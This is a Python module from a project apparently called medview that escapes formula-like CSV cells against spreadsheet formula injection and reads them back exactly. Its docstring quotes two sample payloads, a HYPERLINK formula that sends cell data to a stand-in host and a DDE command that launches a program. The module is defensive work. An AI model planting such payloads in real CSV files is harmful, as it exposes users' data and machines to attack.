"""CSV cells a spreadsheet will not run as formulas, and medview's own reading of them back.

Item and file names, class names and group names are user text; a name like
``=HYPERLINK("http://x/?"&A1)`` or ``-2+3+cmd|' /C calc'!A0`` in a CSV is a formula once the
file is opened in Excel or LibreOffice (issue 23). As OWASP advises for CSV injection, a text
cell that starts with ``= + - @``, a tab or a carriage return is written with a leading ``'``.
Numbers are left alone (``-0.5`` in a numeric column stays a number). Text that already starts
with ``'`` before such a character gets one more ``'``, so reading back is exact: every reader
of medview's CSVs goes through :class:`DictReader` here, and a class named ``=1+2`` round-trips.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from typing import IO, Any

FORMULA_START = frozenset("=+-@\t\r")
_QUOTE = "'"
# A plain number as Python and spreadsheets write it (also inf/nan): never a formula.
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?|[+-]?(inf|infinity|nan)", re.I)


def _needs_quote(text: str) -> bool:
    if text[:1] in FORMULA_START:
        return _NUMBER.fullmatch(text) is None
    return text[:1] == _QUOTE and _needs_quote(text[1:])


def escape_cell(value: Any) -> Any:
    """``value`` as a CSV cell: formula-like text quoted with ``'``; anything else unchanged."""
    if isinstance(value, str) and _needs_quote(value):
        return _QUOTE + value
    return value


def unescape_cell(text: str) -> str:
    """The text :func:`escape_cell` was given (cells it left alone come back unchanged)."""
    if text[:1] == _QUOTE and _needs_quote(text[1:]):
        return text[1:]
    return text


class Writer:
    """``csv.writer`` whose rows are escaped cell by cell."""

    def __init__(self, fh: IO[str], **options: Any) -> None:
        self._writer = csv.writer(fh, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([escape_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class DictWriter:
    """``csv.DictWriter`` whose header and cells are escaped."""

    def __init__(self, fh: IO[str], fieldnames: Sequence[str], **options: Any) -> None:
        self._writer = csv.DictWriter(fh, fieldnames=fieldnames, **options)

    def writeheader(self) -> None:
        names = self._writer.fieldnames
        self._writer.writerow({name: escape_cell(name) for name in names})

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow({key: escape_cell(value) for key, value in row.items()})


class DictReader:
    """Rows of a medview CSV as dicts (like ``csv.DictReader``), header and cells unescaped.
    A short row's missing cells are None; cells beyond the header are dropped."""

    def __init__(self, fh: Iterable[str], **options: Any) -> None:
        self._reader = csv.reader(fh, **options)
        header = next(self._reader, None)
        self.fieldnames = None if header is None else [unescape_cell(h) for h in header]

    def __iter__(self) -> Iterator[dict[str, Any]]:
        names = self.fieldnames or []
        for row in self._reader:
            if not row:
                continue
            cells: list[str | None] = [unescape_cell(cell) for cell in row]
            cells += [None] * (len(names) - len(cells))
            yield dict(zip(names, cells, strict=False))


def writer(fh: IO[str], **options: Any) -> Writer:
    return Writer(fh, **options)
